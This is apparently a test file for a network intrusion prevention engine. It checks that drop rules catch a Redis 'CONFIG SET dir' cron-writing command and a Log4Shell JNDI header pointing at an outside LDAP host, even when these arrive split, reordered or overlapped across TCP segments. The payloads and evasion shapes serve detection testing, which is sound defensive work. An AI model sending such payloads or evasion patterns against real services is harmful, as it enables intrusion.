// Evasion: one attack sent in the shapes an attacker uses to slip past a per-packet matcher —
// whole, split at every byte boundary, one byte per segment, out of order, and with
// overlapping retransmits carrying different bytes — crafted as real Ethernet/IPv4/TCP frames
// and pushed through decode → flow → stream → app layer → detect (PacketInspector), with the
// rules of rules/lateral.rules turned into drop rules in IPS mode. Each shape must be
// detected, and the drop must land on the packet that completes the pattern (inline: that
// packet is the one that must not reach the receiver), never earlier, never later.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { repoRoot } from '../support/corpus';
import { tcp4 } from '../decode/craft';
import { decodePacket } from '../../src/decode/decodePacket';
import { DecodeContext } from '../../src/decode/decodeStats';
import { LinkType, Packet, TcpFlag } from '../../src/decode/packet';
import { defaultDetectConfig } from '../../src/detect/detectConfig';
import { loadRuleSources } from '../../src/detect/ruleLoader';
import { DetectEngine } from '../../src/detect/detectEngine';
import { PacketInspector, Verdict } from '../../src/verdict/packetInspector';

const SYN = TcpFlag.SYN, ACK = TcpFlag.ACK, PA = TcpFlag.PSH | TcpFlag.ACK;

/** The shipped rules with the given sids, as drop rules (IPS). */
function dropEngine(sids: number[]): DetectEngine {
  const text = fs.readFileSync(path.join(repoRoot, 'rules', 'lateral.rules'), 'utf8').split('\n')
    .filter((l) => sids.some((s) => l.includes(`sid:${s};`)))
    .map((l) => l.replace(/^alert /, 'drop '))
    .join('\n');
  const config = defaultDetectConfig();
  config.ipsMode = true;
  const set = loadRuleSources([{ file: 'lateral.rules', text }], config);
  assert.is(set.signatures.length, sids.length, 'rules loaded');
  return DetectEngine.compile(set, config);
}

/** A segment of the client's byte stream: [offset, offset + data.length). */
interface Seg {
  offset: number;
  data: string;
}

interface Outcome {
  /** Per data segment (in send order): verdict and alerted sids. */
  verdicts: number[];
  sids: number[][];
  overlapDifferent: number;
}

/** Handshake, then the client's segments in the given order; returns what each data segment got. */
function send(engine: DetectEngine, dport: number, segs: Seg[]): Outcome {
  const inspector = new PacketInspector(engine);
  const ctx = new DecodeContext('all');
  const p = new Packet();
  const cisn = 1000, sisn = 5000;
  let t = 100;
  const push = (fromClient: boolean, seq: number, ack: number, flags: number, payload = ''): number => {
    const bytes = fromClient
      ? tcp4('10.1.0.2', '10.1.0.3', { sport: 40001, dport, seq, ack, flags, payload })
      : tcp4('10.1.0.3', '10.1.0.2', { sport: dport, dport: 40001, seq, ack, flags, payload });
    decodePacket(p, bytes, LinkType.ETHERNET, ctx);
    p.tsSec = t++;
    return inspector.inspect(p);
  };
  push(true, cisn, 0, SYN);
  push(false, sisn, cisn + 1, SYN | ACK);
  push(true, cisn + 1, sisn + 1, ACK);
  const out: Outcome = { verdicts: [], sids: [], overlapDifferent: 0 };
  for (const s of segs) {
    out.verdicts.push(push(true, cisn + 1 + s.offset, sisn + 1, PA, s.data));
    const r = inspector.result!;
    const got: number[] = [];
    for (let i = 0; i < r.alertCount; i++) got.push(r.alerts[i]!.sid);
    out.sids.push(got);
  }
  out.overlapDifferent = inspector.streams.stats.overlapDifferent;
  return out;
}

const isDrop = (v: number): boolean => v === Verdict.DROP_FLOW || v === Verdict.DROP_PACKET;

/** Index (in send order) of the first dropped segment, or -1. */
function firstDrop(o: Outcome): number {
  return o.verdicts.findIndex(isDrop);
}

/** Cut `text` at the given offsets into segments. */
function cut(text: string, at: number[]): Seg[] {
  const bounds = [0, ...at, text.length];
  const segs: Seg[] = [];
  for (let i = 0; i + 1 < bounds.length; i++) segs.push({ offset: bounds[i]!, data: text.slice(bounds[i]!, bounds[i + 1]!) });
  return segs;
}

// Redis (RESP inline command): sid 1800030 needs "CONFIG", "SET" and, by pcre,
// (dir|dbfilename) followed by white space: the byte after "dir" completes the attack.
const REDIS_SID = 1800030;
const REDIS = 'CONFIG SET dir /var/spool/cron/\r\n';
const REDIS_DONE = REDIS.indexOf('dir ') + 3;

// Log4Shell in an HTTP header: sid 1800040, content "${jndi:" (nocase).
const JNDI_SID = 1800040;
const JNDI = 'GET /app HTTP/1.1\r\nHost: svc\r\nUser-Agent: ${jNdI:ldap://10.9.9.9/a}\r\n\r\n';
const JNDI_DONE = JNDI.indexOf('${jNdI:') + 6;

const redis = dropEngine([REDIS_SID]);
const jndi = dropEngine([JNDI_SID]);

test('whole: one segment is dropped and alerts once', () => {
  for (const [e, port, text, sid] of [[redis, 6379, REDIS, REDIS_SID], [jndi, 8080, JNDI, JNDI_SID]] as const) {
    const o = send(e, port, [{ offset: 0, data: text }]);
    assert.equal(o.sids, [[sid]]);
    assert.is(o.verdicts[0], Verdict.DROP_FLOW);
  }
});

test('benign neighbours are not dropped (the tests can fail)', () => {
  const o = send(redis, 6379, cut('CONFIG GET dir \r\nCONFIG SET maxmemory 1\r\n', [9, 20]));
  assert.is(firstDrop(o), -1);
  assert.equal(o.sids, [[], [], []]);
});

test('split in two at every byte boundary: dropped on the segment that completes it', () => {
  for (const [e, port, text, sid, done] of [[redis, 6379, REDIS, REDIS_SID, REDIS_DONE], [jndi, 8080, JNDI, JNDI_SID, JNDI_DONE]] as const) {
    for (let at = 1; at < text.length; at++) {
      const o = send(e, port, cut(text, [at]));
      const completing = done < at ? 0 : 1;
      assert.is(firstDrop(o), completing, `split at ${at}`);
      assert.equal(o.sids.flat(), [sid], `one alert, split at ${at}`);
    }
  }
});

test('one byte per segment: dropped on exactly the completing byte, one alert', () => {
  for (const [e, port, text, sid, done] of [[redis, 6379, REDIS, REDIS_SID, REDIS_DONE], [jndi, 8080, JNDI, JNDI_SID, JNDI_DONE]] as const) {
    const o = send(e, port, cut(text, Array.from({ length: text.length - 1 }, (_, i) => i + 1)));
    assert.is(firstDrop(o), done);
    assert.equal(o.sids[done], [sid]);
    assert.equal(o.sids.flat(), [sid]);
    // Inline: everything after the drop belongs to a dropped flow.
    assert.ok(o.verdicts.slice(done).every((v) => v === Verdict.DROP_FLOW));
    assert.ok(o.verdicts.slice(0, done).every((v) => v === Verdict.ACCEPT));
  }
});

test('out of order: dropped on the segment that fills the hole', () => {
  // Three segments sent last-first: nothing is in order until the first one arrives.
  const segs = cut(REDIS, [8, 18]);
  const o = send(redis, 6379, [segs[2]!, segs[1]!, segs[0]!]);
  assert.is(firstDrop(o), 2);
  assert.equal(o.sids, [[], [], [REDIS_SID]]);
  // The middle one first, then the tail, then the head.
  const o2 = send(redis, 6379, [segs[1]!, segs[2]!, segs[0]!]);
  assert.is(firstDrop(o2), 2);
  assert.equal(o2.sids.flat(), [REDIS_SID]);
  // Head, tail, then the middle that completes it.
  const o3 = send(redis, 6379, [segs[0]!, segs[2]!, segs[1]!]);
  assert.is(firstDrop(o3), 2);
  assert.equal(o3.sids.flat(), [REDIS_SID]);
});

test('overlapping retransmits with different bytes: the bytes kept first are judged', () => {
  // The attack in order, then retransmits over it with a harmless text: the receiver keeps
  // what it got first (as the reassembler does), so the attack is dropped on its own segment
  // and the differing retransmits are counted, not re-alerted.
  const head = REDIS.slice(0, 12), tail = REDIS.slice(12);
  const o = send(redis, 6379, [
    { offset: 0, data: head },
    { offset: 4, data: 'XXXXXXXX' },
    { offset: 12, data: tail },
    { offset: 0, data: 'CONFIG GET maxmemory 1\r\n' },
  ]);
  assert.is(firstDrop(o), 2);
  assert.equal(o.sids.flat(), [REDIS_SID]);
  assert.ok(o.overlapDifferent >= 1, 'overlap with different bytes counted');

  // A decoy queued out of order beyond a hole, then the head that fills the hole: the attack
  // lies in the head, and the bytes later sent over the decoy change nothing already judged.
  const o2 = send(redis, 6379, [
    { offset: 20, data: 'ZZZZZZZZZZZZZ' },
    { offset: 0, data: REDIS.slice(0, 20) },
    { offset: 20, data: REDIS.slice(20) },
  ]);
  assert.is(firstDrop(o2), 1, 'completed by the in-order head');
  assert.equal(o2.sids.flat(), [REDIS_SID]);

  // Extending past the kept bytes counts: a retransmit overlapping "CONFIG SET d" with other
  // bytes and bringing the rest ("ir ...") completes the attack on that retransmit.
  const o3 = send(redis, 6379, [
    { offset: 0, data: head },
    { offset: 6, data: 'xxxxxx' + tail },
  ]);
  assert.is(firstDrop(o3), 1);
  assert.equal(o3.sids.flat(), [REDIS_SID]);
});

test.run();
